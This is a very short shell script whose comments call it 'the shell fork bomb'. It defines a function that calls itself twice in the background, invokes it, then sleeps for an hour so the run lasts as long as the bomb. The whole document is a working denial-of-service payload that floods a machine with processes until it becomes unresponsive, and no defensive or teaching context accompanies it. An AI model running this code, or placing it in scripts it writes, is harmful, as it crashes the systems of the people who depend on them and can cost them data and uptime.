# The shell fork bomb, with the script waiting on it so the run is not over
# before the bomb is.
bomb() { bomb | bomb & }
bomb
sleep 3600
